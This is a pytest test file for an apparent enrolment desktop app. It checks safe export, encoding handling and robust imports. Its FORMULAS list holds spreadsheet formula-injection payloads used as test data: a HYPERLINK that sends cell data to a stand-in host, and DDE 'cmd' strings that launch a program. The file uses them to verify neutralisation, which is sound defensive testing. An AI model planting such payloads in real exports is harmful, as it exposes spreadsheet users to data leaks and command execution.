"""Exports leave nothing in clear outside the chosen file, and their cells cannot become
formulas; imports read the encodings Moroccan offices produce (issue 14, points 5, 10, 15)."""

from __future__ import annotations

import csv
import json
import tempfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from jisr_desktop.models.store.repository import Repository
from jisr_desktop.models.workflows import import_export
from jisr_desktop.models.workflows.enrolment import enrol
from jisr_desktop.models.workflows.export import export_file
from jisr_desktop.models.workflows.file_io import decode_text
from jisr_desktop.models.workflows.import_export import ImportStopped, import_file, save_many

from .conftest import TODAY, make_submission
from .test_cli import jisr

FORMULAS = ['=HYPERLINK("http://x.example/?d="&A2,"clic")', "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "+33 ou -2", "-2+3+cmd|' /C calc'!A0",
            "\t=SUM(A1:A9)", "\r=HYPERLINK(\"x\")"]


def _system_temp_leftovers() -> set[str]:
    return {p.name for p in Path(tempfile.gettempdir()).glob("openpyxl.*")}


@pytest.fixture
def saved(repo, definitions):
    outcome = enrol(repo, definitions, make_submission(project_description=FORMULAS[0]),
                    today=TODAY)
    assert outcome.saved
    return outcome.record.id


def test_an_interrupted_xlsx_export_leaves_nothing_in_any_temp_folder(repo, definitions, saved,
                                                                      store_dir, tmp_path,
                                                                      monkeypatch):
    before = _system_temp_leftovers()

    def records_then_crash():
        yield from Repository.iter_records(repo)
        raise KeyboardInterrupt  # Ctrl-C, or the window closed, mid-export

    monkeypatch.setattr(repo, "iter_records", records_then_crash)
    out = tmp_path / "out.xlsx"
    with pytest.raises(KeyboardInterrupt):
        export_file(repo, definitions, out, "xlsx")
    assert _system_temp_leftovers() == before
    assert list((store_dir / "tmp").iterdir()) == []
    assert (store_dir / "tmp").stat().st_mode & 0o777 == 0o700
    assert not out.exists()


def test_the_exported_xlsx_cell_is_text_and_the_csv_cell_is_prefixed(repo, definitions,
                                                                     tmp_path):
    for i, text in enumerate(FORMULAS):
        sub = make_submission(cin=f"EE{200000 + i}", phone=f"0612{i:06d}",
                              project_description=text, last_name_lat=f"Bennani{'x' * i}")
        outcome = enrol(repo, definitions, sub, today=TODAY, allow_duplicate=True)
        assert outcome.saved, outcome.evaluation.validation.errors
    export_file(repo, definitions, tmp_path / "out.xlsx", "xlsx")
    sheet = load_workbook(tmp_path / "out.xlsx").active
    header = [c.value for c in sheet[2]]
    column = header.index("project_description")
    cells = [row[column] for row in sheet.iter_rows(min_row=3)]
    stored = [text.strip() for text in FORMULAS]  # the form trims the tab and CR
    assert sorted(c.value for c in cells) == sorted(stored)
    assert all(c.data_type == "s" for c in cells)  # text, never "f" (formula)

    export_file(repo, definitions, tmp_path / "out.csv", "csv")
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as fh:
        written = [row["project_description"] for row in csv.DictReader(fh)]
    assert sorted(written) == sorted("'" + text for text in stored)
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in written)


def test_a_csv_export_reimports_unchanged_despite_the_prefixes(repo, definitions, saved,
                                                               tmp_path):
    export_file(repo, definitions, tmp_path / "out.csv", "csv")
    report = import_file(repo, definitions, tmp_path / "out.csv", today=TODAY)
    assert report.unchanged == 1 and report.saved == 0 and not report.problems


ARABIC_CSV = (
    "first_name_ar,last_name_ar,first_name_lat,last_name_lat,project_description\n"
    "فاطمة الزهراء,بناني,Fatima-Zahra,Bennani,نسج الزرابي\n"
)
FRENCH_CSV = "first_name_lat,project_description\nÉlodie,Élevage de chèvres à Ifrane\n"


@pytest.mark.parametrize(
    ("text", "encoding"),
    [(ARABIC_CSV, "cp1256"), (ARABIC_CSV, "utf-16"), (ARABIC_CSV, "utf-8-sig"),
     (FRENCH_CSV, "latin-1"), (FRENCH_CSV, "cp1252"), (FRENCH_CSV, "utf-8")],
)
def test_files_from_excel_on_arabic_or_french_windows_are_read(text, encoding):
    assert decode_text(text.encode(encoding)) == text


def test_an_import_that_fails_part_way_reports_exactly_what_was_saved(repo, definitions,
                                                                       monkeypatch):
    from jisr_desktop.models.demo.data import generate

    rows = list(enumerate(generate(30, 3, today=TODAY), start=1))
    real = Repository.bulk_save
    calls = []

    def fail_on_third_chunk(self, items, **kw):
        calls.append(1)
        if len(calls) == 3:
            raise OSError("disk full")
        return real(self, items, **kw)

    monkeypatch.setattr(Repository, "bulk_save", fail_on_third_chunk)
    with pytest.raises(ImportStopped) as info:
        save_many(repo, definitions, rows, today=TODAY, chunk=10)
    report = info.value.report
    assert report.stopped_at_line == 21
    assert report.saved == repo.count() == 20


def test_cli_import_of_nasty_json_gets_clear_messages(tmp_path):
    folder = tmp_path / "data"
    assert jisr(folder, "init", "--agent", "Amina Agent", "--province", "07.351").returncode == 0
    cases = {
        "deep.json": "[" * 100_000 + "]" * 100_000,
        "huge.json": '[{"household_size": ' + "9" * 5000 + "}]",
        "nan.json": '[{"household_size": NaN}]',
        "utf16.json": None,
        "wrong_id.json": json.dumps([dict(make_submission(), id=12345)]),
        "surrogate.json": '[{"first_name_lat": "Fa\\ud800tima"}]',
        "not_rows.json": "[1, 2]",
    }
    for name, body in cases.items():
        path = tmp_path / name
        if body is None:
            path.write_bytes(json.dumps([make_submission()], ensure_ascii=False)
                             .encode("utf-16"))
        else:
            path.write_text(body, encoding="utf-8")
        done = jisr(folder, "import", str(path))
        assert "Unexpected" not in done.stderr and "Traceback" not in done.stderr, name
        if name == "utf16.json":
            assert done.returncode == 0 and json.loads(done.stdout)["saved"] == 1
        else:
            assert done.returncode == 2, (name, done.stderr)
    stats = json.loads(jisr(folder, "stats").stdout)
    assert stats["total"] == 1
    assert import_export.FileProblem  # the module exposes the file-level error


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_every_owasp_formula_start_is_neutralised_and_restored(text):
    from jisr_desktop.models.workflows.file_io import neutralise, restore

    assert neutralise(text) == "'" + text and restore(neutralise(text)) == text
    assert neutralise(-1) == -1 and neutralise("Fatima") == "Fatima"
